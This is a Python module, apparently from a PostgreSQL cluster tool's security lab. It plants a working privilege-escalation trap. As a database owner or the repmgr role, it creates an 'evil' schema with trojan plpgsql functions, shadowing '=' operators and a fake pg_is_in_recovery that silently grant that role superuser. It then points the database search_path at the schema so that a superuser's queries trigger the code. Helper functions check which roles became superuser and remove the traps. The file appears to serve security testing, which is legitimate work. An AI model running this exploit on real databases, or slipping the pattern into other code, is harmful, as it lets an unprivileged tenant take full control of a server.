# SPDX-License-Identifier: GPL-3.0-or-later
# SPDX-FileCopyrightText: pgherd contributors
"""A database's owner who waits for root's next run: what is asked in his database by a superuser runs his code."""

from __future__ import annotations

from contextlib import suppress

import psycopg
from attacks.means import OWN, TENANT, ask, client
from faults.cluster import Cluster, LabError

# Found before what PostgreSQL brings, wherever a session leaves out pg_catalog: it takes what it can get, and answers right.
_TAKE = """
CREATE SCHEMA evil;
CREATE FUNCTION evil.take() RETURNS void LANGUAGE plpgsql AS $$
BEGIN
  EXECUTE 'ALTER ROLE {role} SUPERUSER';
EXCEPTION WHEN OTHERS THEN NULL;
END $$;
CREATE FUNCTION evil.same(name, name) RETURNS bool LANGUAGE plpgsql AS $$
BEGIN PERFORM evil.take(); RETURN $1 OPERATOR(pg_catalog.=) $2; END $$;
CREATE OPERATOR evil.= (LEFTARG = name, RIGHTARG = name, FUNCTION = evil.same);
CREATE FUNCTION evil.same(text, text) RETURNS bool LANGUAGE plpgsql AS $$
BEGIN PERFORM evil.take(); RETURN $1 OPERATOR(pg_catalog.=) $2; END $$;
CREATE OPERATOR evil.= (LEFTARG = text, RIGHTARG = text, FUNCTION = evil.same);
CREATE FUNCTION evil.pg_is_in_recovery() RETURNS bool LANGUAGE plpgsql AS $$
BEGIN PERFORM evil.take(); RETURN pg_catalog.pg_is_in_recovery(); END $$;
ALTER DATABASE {database} SET search_path = evil, pg_catalog, public;
"""
# Whoever may, in which database: a client in his own, and repmgr's role in the one that it owned once.
TRAPS = {TENANT: TENANT, "repmgr": OWN}


def plant(cluster: Cluster, primary: str) -> list[str]:
    """Set the traps that can be set; in which databases."""
    planted = []
    for role, database in TRAPS.items():
        code = _TAKE.format(role=role, database=database)
        with suppress(psycopg.Error, LabError):
            if role == TENANT:
                with client(cluster, primary, TENANT) as session:
                    session.execute(code)
            else:
                ask(cluster, cluster.standbys(primary)[0], role, primary, code, database, whole=True)
            planted.append(database)
    return planted


def superusers(cluster: Cluster, primary: str) -> list[str]:
    """Who is superuser, beside postgres."""
    query = "SELECT rolname AS name FROM pg_roles WHERE rolsuper AND rolname <> 'postgres'"
    return [row["name"] for row in cluster.rows(primary, query)]


def clear(cluster: Cluster, primary: str) -> None:
    """Take the traps away, as somebody who does not step into them."""
    for role, database in TRAPS.items():
        cluster.rows(primary, f"ALTER DATABASE {database} RESET search_path")
        cluster.rows(primary, "DROP SCHEMA IF EXISTS evil CASCADE", database)
        cluster.rows(primary, f"ALTER ROLE {role} NOSUPERUSER")
